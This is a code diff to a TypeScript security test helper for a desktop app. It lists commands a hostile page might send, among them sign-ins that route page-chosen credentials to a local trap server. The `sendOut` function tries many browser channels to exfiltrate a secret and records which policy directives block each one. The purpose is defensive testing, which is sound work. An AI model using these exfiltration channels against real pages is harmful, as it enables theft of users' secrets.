@@ -3,6 +3,7 @@
  * way in which a page can send something out. The functions travel to the page as text.
  */
 import type { CommandName, Input } from '../../src-shared/contract.ts';
+import { commandNames, validMessages, type Fields } from '../messages/samples.ts';
 
 /** One call, as the page makes it. */
 export type Order = readonly [name: unknown, input: unknown];
@@ -27,47 +28,53 @@ export interface Targets {
 const local = (url: string) => ({ kind: 'local', url }) as const;
 type Orders = readonly { [N in CommandName]: readonly [N, Input<N>] }[CommandName][];
 
-/** Valid calls that leave the session as it is. With empty fields, kept secrets are asked for. */
-export function harmless({ profile, userName, trap, users }: Targets): Orders {
-  const empty = { password: '', devKey: '' };
-  const form = { profile, userName, orgId: '00801', ...empty };
+/** Commands that change or end something for good, which `destructive` gives. All others are harmless. */
+const lasting: ReadonlySet<CommandName> = new Set<CommandName>([
+  ...(['cancelSignIn', 'createProfile', 'duplicateProfile', 'resume', 'forgetDevice'] as const),
+  ...(['signOut', 'forgetProfile', 'renewVault', 'wipeEverything'] as const),
+]);
+
+/** Ending the app is the user's to do as well; with it nothing could be looked at afterwards. */
+export const endings: ReadonlySet<CommandName> = new Set<CommandName>(['quit']);
+
+/** Every other command: a new one is called without being named here. */
+const sampled = commandNames.filter((name) => !lasting.has(name) && !endings.has(name));
+
+/** The sample with the targets in it, at any depth: with empty secrets, kept ones are asked for. */
+function aim(sample: unknown, targets: Targets): unknown {
+  const aims: Fields = {
+    ...{ profile: targets.profile, userName: targets.userName, server: local(targets.trap) },
+    ...{ password: '', devKey: '', orgId: '00801', sessionId: 'of-the-page' },
+    // A session that ended is to stay ended, and what is kept is to stay kept.
+    ...{ staySignedIn: false, what: 'everything' },
+  };
+  if (typeof sample !== 'object' || sample === null) return sample;
+  const fields = Object.entries(sample).map(([key, value]) => [
+    key,
+    key in aims ? aims[key] : aim(value, targets),
+  ]);
+  return Object.fromEntries(fields);
+}
+
+/** Valid calls that leave the session as it is: each choice of each field of each command. */
+export function harmless(targets: Targets): Orders {
+  const { profile, userName, trap, users } = targets;
+  const samples = sampled.flatMap((name) => {
+    const texts = validMessages(name).map((sample) => JSON.stringify(aim(sample, targets)));
+    return [...new Set(texts)].map((text) => [name, JSON.parse(text) as object] as const);
+  });
+  const form = { profile, userName, orgId: '00801', password: '', devKey: '' };
   return [
-    ['getSnapshot', {}],
+    ...(samples as unknown as Orders),
+    // One that is there: the call that opened a session, where there is one.
     ['getExchange', { id: 1 }],
-    ['previewDiagnostics', {}],
-    ['saveDiagnostics', {}],
-    ['getNotices', {}],
-    ['exportProfiles', {}],
-    ['importProfiles', {}],
-    ['retryStorage', {}],
-    ['dismissNotice', { kind: 'launchStopped' }],
-    ['repeatOperation', { profile, operation: 'inviteVendor' }],
-    ['openLink', { link: 'authentication' }],
-    ['changeSettings', { touchMinutes: 10 }],
-    ['setStartAtLogin', { on: false }],
-    ['selectProfile', { profile }],
-    ['editProfile', { profile, change: { name: 'Taken', colour: 'blue' } }],
-    ['moveProfile', { profile, to: 0 }],
-    ['nameMachine', { profile, machineName: 'Taken' }],
-    ['keepSignIn', { profile, what: 'everything' }],
-    ['copySessionId', { profile }],
-    ['dropOldCopies', { profile }],
-    ['copyFact', { profile, fact: 'organizationId' }],
-    ['checkTrust', { profile }],
     ['tryOperation', { profile, operation: 'inviteVendor', body: '{"planted":1}' }],
-    ['sendMfaCode', { profile }],
-    ['submitMfaCode', { profile, code: '000000', rememberDevice: false }],
-    ['extendNow', { profile }],
-    ['pauseKeepAlive', { profile, ms: null }],
     // Kept secrets to a server of the page's choice, in each way that there is.
-    ['signIn', { ...form, server: local(trap) }],
     ['signIn', { ...form, devKey: 'OF-THE-PAGE', server: local(trap) }],
     ['signIn', { ...form, password: 'of-the-page', server: local(trap) }],
     ['signIn', { ...form, server: local(users.replace('127.0.0.1', 'localhost')) }],
     ['signIn', { ...form, server: local(`${users}/../..`) }],
     ['signIn', { ...form, userName: 'somebody@else.example', server: local(users) }],
-    ['useSession', { profile, server: local(trap), sessionId: 'of-the-page', devKey: '' }],
-    ['findOrganizations', { profile, userName, ...empty, server: local(trap) }],
   ];
 }
 
@@ -77,9 +84,10 @@ export function destructive({ profile, userName, trap, own }: Targets): Orders {
   const typed = { userName: own.userName, password: 'of-the-page', devKey: 'OF-THE-PAGE' };
   const server = local(own.url);
   return [
+    // First, so that a sign-in that hangs does not hold up the rest.
+    ['cancelSignIn', { profile }],
     ['createProfile', {}],
     ['duplicateProfile', { profile }],
-    ['cancelSignIn', { profile }],
     ['resume', { profile }],
     ['forgetDevice', { profile }],
     ['signOut', { profile }],
@@ -154,14 +162,29 @@ export function callWithGarbage([names, profile]: readonly [string[], string]): 
   );
 }
 
+/** What the policy has to say of each way that `sendOut` tries: one breach for each. */
+export const breaches: readonly string[] = [
+  ...['base-uri', 'connect-src', 'connect-src', 'connect-src', 'connect-src', 'connect-src'],
+  ...['default-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'img-src', 'media-src'],
+  ...['require-trusted-types-for', 'require-trusted-types-for', 'require-trusted-types-for'],
+  'style-src-elem',
+];
+
 /**
- * Tries every way out of the page with `secret`, to `target` (http://host:port). Resolves to the
- * directives of the policy that stopped something. Runs in the page.
+ * Tries every way of sending `secret` to `target` (http://host:port) from the page as it is. Resolves
+ * to the directives of the policy that were breached, once there are `count` of them or no more come
+ * within 15 seconds. Runs in the page.
  */
-export async function sendOut([target, secret]: readonly [string, string]): Promise<string[]> {
-  const stopped = new Set<string>();
-  document.addEventListener('securitypolicyviolation', (event) => {
-    stopped.add(event.effectiveDirective);
+export async function sendOut([target, secret, count]: readonly [string, string, number]): Promise<
+  string[]
+> {
+  const told: string[] = [];
+  const allTold = new Promise<void>((resolve) => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      told.push(event.effectiveDirective);
+      if (told.length >= count) resolve();
+    });
+    setTimeout(resolve, 15_000);
   });
   const to = (way: string) => `${target}/${way}?${encodeURIComponent(secret)}`;
   const add = (tag: string, attributes: Record<string, string>) => {
@@ -186,17 +209,15 @@ export async function sendOut([target, secret]: readonly [string, string]): Prom
     () => add('iframe', { src: to('frame') }),
     () => add('link', { rel: 'stylesheet', href: to('style') }),
     () => add('link', { rel: 'prefetch', href: to('prefetch') }),
-    () => add('link', { rel: 'preconnect', href: target }),
-    () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${to('refresh')}` }),
     () => add('base', { href: to('base') }),
     () => add('script', { src: to('script') }),
     () => new Worker(to('worker')),
     () => new FontFace('taken', `url(${to('font')})`).load(),
     () => void (document.body.style.backgroundImage = `url(${to('css')})`),
     () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
-    () => (add('a', { href: to('ping'), ping: to('ping') }) as HTMLAnchorElement).click(),
+    // The policy says nothing of these two: the window has no network, and opens no other.
+    () => add('link', { rel: 'preconnect', href: target }),
     () => window.open(to('open')),
-    () => void (location.href = to('location')),
   ];
   for (const way of ways) {
     try {
@@ -204,13 +225,23 @@ export async function sendOut([target, secret]: readonly [string, string]): Prom
     } catch {
       // Refused at once: what was asked for.
     }
-    // One navigation must not take the next one's place.
-    await new Promise((resolve) => setTimeout(resolve, 30));
   }
-  // Chromium tells of a breach after the fact: until it has told nothing new for a while.
-  for (let told = -1; told !== stopped.size;) {
-    told = stopped.size;
-    await new Promise((resolve) => setTimeout(resolve, 1000));
-  }
-  return [...stopped].sort();
+  await allTold;
+  return told.sort();
+}
+
+/** The ways of leaving for another page, which main refuses. */
+export const departures = ['refresh', 'ping', 'location'] as const;
+
+/** Tries to leave for `url` in one of the ways. Runs in the page. */
+export function leave([way, url]: readonly [(typeof departures)[number], string]): void {
+  const add = (tag: string, attributes: Record<string, string>) => {
+    const element = document.createElement(tag);
+    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+    document.body.append(element);
+    return element;
+  };
+  if (way === 'refresh') add('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` });
+  if (way === 'ping') (add('a', { href: url, ping: url }) as HTMLAnchorElement).click();
+  if (way === 'location') location.href = url;
 }
